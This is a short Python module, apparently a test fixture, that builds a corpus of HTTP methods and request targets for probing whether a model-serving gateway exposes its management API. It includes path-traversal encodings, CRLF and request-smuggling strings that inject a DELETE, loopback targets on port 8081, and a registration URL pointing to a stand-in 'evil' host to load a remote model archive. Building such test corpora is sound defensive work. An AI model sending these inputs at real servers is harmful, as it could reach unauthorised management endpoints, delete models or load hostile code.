"""Request targets that try to reach what is behind the gateway: climbing, encoding, odd forms, odd methods."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

TARGETS = (
    "models",
    "models/digits",
    "models?url=http://evil/x.mar",
    "workflows",
    "metrics",
    "api-description",
    "token?type=management",
    "ping",
)
SLASHES = ("/", "//", "///", "%2f", "%2F", "%252f", "%c0%af", "%u2215", "\\", "%5c", "%5C", "/;/", "/.;/", "/%09/", "/./", "/%2e/", "/%00/")
CLIMBS = ("..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "..;", "..%00", "..%09", "%c0%ae%c0%ae", "%uff0e%uff0e", "...")
PREFIXES = (
    "/predictions",
    "/predictions/digits",
    "/predictions/digits/1",
    "/v2/models",
    "/v2/models/digits",
    "/v2/models/digits/versions/1",
    "/v1/models/digits:predict",
    "/explanations/digits",
    "",
)
ODD = (
    "/%6dodels",
    "/%6d%6f%64%65%6c%73",
    "/MODELS",
    "/models/",
    "/models#/predictions/digits",
    "/predictions/digits#/models",
    "/predictions/digits;/models",
    "/predictions/digits%3f/models",
    "/predictions/digits%23/models",
    "/predictions/digits\t/models",
    "/predictions/digits%0d%0aX:%20y",
    "/predictions/digits%20HTTP/1.1%0d%0a%0d%0aDELETE%20/models/digits",
    "http://127.0.0.1/models",
    "http://127.0.0.1:8081/models",
    "http://x/predictions/digits/../../models",
    "//models/predictions/digits",
    "/predictions/digits/1/../../../models",
    "/predictions/digits?/../../models",
    "/predictions/digits?x=/models",
    "/predictions/digits/1-onnx-fp32-000000000001",
    "/predictions/digits/2-onnx-fp32-000000000002",
    "/predictions/other/1-onnx-fp32-000000000001",
    "*",
    "models",
    "@models",
)
METHODS = ("GET", "POST", "PUT", "DELETE", "OPTIONS", "HEAD", "PATCH", "TRACE", "CONNECT", "get", "DESCRIBE")


def corpus() -> Iterator[tuple[str, str]]:
    """(method, request target), some thousands."""
    climbs = {
        prefix + slash + slash.join([climb] * depth) + slash
        for prefix, slash, climb, depth in itertools.product(PREFIXES, SLASHES, CLIMBS, (1, 3))
    }
    paths = [climb + target for climb in sorted(climbs) for target in ("models", "models/digits")]
    paths += [slash + target for slash, target in itertools.product(SLASHES, TARGETS)]
    paths += [prefix + slash + target for prefix, slash, target in itertools.product(PREFIXES, SLASHES, TARGETS)]
    yield from ((("GET", "POST", "PUT", "DELETE")[index % 4], path) for index, path in enumerate(paths))
    yield from itertools.product(METHODS, (*ODD, *("/" + target for target in TARGETS)))
